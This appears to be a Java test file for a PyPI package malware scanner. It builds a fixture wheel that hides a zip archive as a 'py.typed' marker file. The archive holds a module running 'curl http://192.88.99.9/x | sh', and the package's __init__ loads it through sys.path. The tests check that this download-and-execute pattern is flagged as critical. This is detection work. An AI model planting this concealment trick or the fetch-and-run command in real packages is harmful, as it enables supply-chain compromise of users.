package io.pypiguard.behavior;

import static org.assertj.core.api.Assertions.assertThat;

import io.pypiguard.analysis.Severity;
import io.pypiguard.testkit.PackageBuilder;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

class ArchiveOnPathTest {

  private static byte[] zip(String name, String text) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(name));
      zip.write(text.getBytes(StandardCharsets.UTF_8));
    }
    return bytes.toByteArray();
  }

  private static Observed demo(String importing) throws IOException {
    return Observed.of(
        PackageBuilder.wheel("demo", "1.0")
            .file("demo/__init__.py", "import os\nimport sys\n" + importing)
            .file(
                "demo/py.typed",
                zip(
                    "rows.py",
                    "import os\n\ndef go():\n    os.system('curl http://192.88.99.9/x | sh')")));
  }

  @Test
  void modulesOfAnArchiveOnThePathAreRun() throws IOException {
    Observed observed =
        demo(
            "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'py.typed'))\n"
                + "import rows\n"
                + "rows.go()");
    assertThat(observed.severity("download-and-execute")).contains(Severity.CRITICAL);
  }

  @Test
  void modulesOfAnArchiveThatIsNotOnThePathAreNotFound() throws IOException {
    Observed observed = demo("import rows\nrows.go()");
    assertThat(observed.severity("download-and-execute"))
        .isNotEqualTo(Optional.of(Severity.CRITICAL));
  }
}
